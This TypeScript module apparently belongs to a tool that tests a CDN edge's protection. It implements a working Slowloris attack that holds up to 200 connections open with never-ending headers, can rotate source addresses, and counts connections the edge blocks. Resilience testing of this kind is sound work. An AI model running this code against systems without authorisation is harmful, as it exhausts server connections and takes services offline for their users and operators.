import net from 'node:net';
import type { AttackParams } from '../../../../contracts/agent-api.ts';
import { runAtFixedRate } from '../fixed-rate.ts';
import type { Traffic } from '../probe-job.ts';
import { parseServedBy } from '../send-request.ts';
import { countAtPop, newCounters, snapshot } from './counters.ts';
import type { RunningAttack } from './counters.ts';

const DEFAULT_SLOWLORIS_CONNECTIONS = 200;
const CONNECT_TIMEOUT_MS = 2000;
/** One more header line this often keeps a server without a header deadline waiting. */
const DRIP_INTERVAL_MS = 1000;
const MAX_RESPONSE_BYTES = 4096;

/**
 * Holds up to `connections` connections open, each with a request whose headers never end, opening
 * at most `rps` per second (and reopening those the edge closes) until the duration is over.
 * ok: held until the end; blocked: closed by the edge (with its answer's PoP when it sent one).
 */
export function startSlowloris(params: AttackParams, traffic: Traffic): RunningAttack {
  const counters = newCounters();
  const open = new Set<net.Socket>();
  let ending = false;
  const connections = params.connections ?? DEFAULT_SLOWLORIS_CONNECTIONS;
  const hold = (): Promise<void> =>
    new Promise((resolve) => {
      const source = traffic.nextSource();
      const socket = net.connect({ host: traffic.target.host, port: traffic.target.port, ...(source === undefined ? {} : { localAddress: source }) });
      counters.sent++;
      open.add(socket);
      let connected = false;
      let timedOut = false;
      let response = '';
      let drip: NodeJS.Timeout | undefined;
      const connectTimer = setTimeout(() => {
        timedOut = true;
        socket.destroy();
      }, CONNECT_TIMEOUT_MS);
      socket.on('connect', () => {
        connected = true;
        clearTimeout(connectTimer);
        socket.write(`GET ${params.path} HTTP/1.1\r\nHost: ${traffic.target.host}\r\n`);
        let n = 0;
        drip = setInterval(() => socket.write(`X-a${n++}: b\r\n`), DRIP_INTERVAL_MS);
      });
      socket.on('data', (chunk: Buffer) => {
        if (response.length < MAX_RESPONSE_BYTES) response += chunk.toString('latin1');
      });
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearTimeout(connectTimer);
        clearInterval(drip);
        open.delete(socket);
        if (ending) {
          if (connected) counters.ok++;
        } else if (connected) {
          counters.blocked++;
          countAtPop(counters, servedByIn(response), true);
        } else if (timedOut) counters.timeouts++;
        else counters.errors++;
        resolve();
      });
    });
  const run = runAtFixedRate({ ratePerS: params.rps, durationMs: params.durationMs, maxInFlight: connections, fire: hold });
  const end = (): void => {
    ending = true;
    run.stop();
    for (const socket of open) socket.destroy();
  };
  const deadline = setTimeout(end, params.durationMs);
  const done = run.done.then(() => clearTimeout(deadline));
  return { done, stop: end, counters: () => snapshot(counters, run.stats()) };
}

function servedByIn(response: string): string | undefined {
  const header = /^x-served-by:\s*(.+)$/im.exec(response)?.[1];
  return parseServedBy(header)?.pop;
}
